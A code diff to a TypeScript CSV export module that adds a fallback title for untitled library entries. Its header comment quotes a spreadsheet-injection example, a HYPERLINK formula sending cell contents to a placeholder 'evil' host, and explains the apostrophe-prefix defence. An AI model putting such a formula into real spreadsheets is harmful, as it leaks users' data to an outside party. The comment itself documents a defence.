@@ -3,6 +3,7 @@
 // that it trims first) as a formula: `=HYPERLINK("http://evil/?"&A1)` would leak the sheet. Such
 // cells get a leading apostrophe, the OWASP remedy, so they are shown as text and never run.
 import type { LibraryItem } from '../library/items';
+import { cutAtBoundary } from '../protocol/entry-meta';
 
 /** The columns, in order. Times are ISO 8601 (UTC) so every spreadsheet reads them the same. */
 export const CSV_COLUMNS = [
@@ -32,7 +33,8 @@ function row(item: LibraryItem): string[] {
     item.speakers.join('; '),
     item.text,
     item.note ?? '',
-    item.title,
+    // Entries without a heading (most live-blog posts) are named by their first words.
+    item.title || (item.kind === 'entry' ? cutAtBoundary(item.text, 80) : ''),
     item.blogTitle,
     item.site,
     item.link ?? '',
